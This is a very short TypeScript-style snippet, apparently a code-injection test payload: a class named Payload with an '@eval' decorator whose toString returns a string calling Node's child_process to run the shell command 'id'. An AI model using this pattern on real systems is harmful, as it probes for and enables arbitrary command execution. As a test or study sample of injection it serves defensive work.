@eval
class Payload {
  static toString(): string {
    return "require('child_process').execSync('id').toString()";
  }
}
console.log(Payload);
